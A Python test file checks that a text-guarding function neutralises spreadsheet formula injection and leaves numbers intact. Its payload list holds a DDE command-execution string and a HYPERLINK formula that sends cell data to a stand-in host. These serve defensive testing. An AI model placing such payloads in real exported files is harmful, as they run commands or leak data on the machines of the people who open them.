"""Nothing that somebody wrote becomes a formula in somebody else's spreadsheet; numbers stay numbers."""

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from resimate_text.tables import guarded, unguarded

BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
RESTS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1)', "SUM(1+1)*2", "1+1")
PAYLOADS = [first + rest for first, rest in itertools.product(BEGINNINGS, RESTS)]


def test_there_are_payloads_enough() -> None:
    assert len(PAYLOADS) >= 40


@pytest.mark.parametrize(
    "payload", [*PAYLOADS, " =1+1", "\ufeff=1+1", "\xa0@A1", "-5 to 5", "+43 660 123", "--1", "-1+1"]
)
def test_a_formula_becomes_text(payload: str) -> None:
    assert guarded(payload) == f"'{payload}"
    assert unguarded(guarded(payload)) == payload


@pytest.mark.parametrize("number", ["-5", "+1.5", "-1,5", "-1e-9"])
def test_a_number_stays_one(number: str) -> None:
    assert guarded(number) == number


@given(st.text())
def test_every_text_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == text
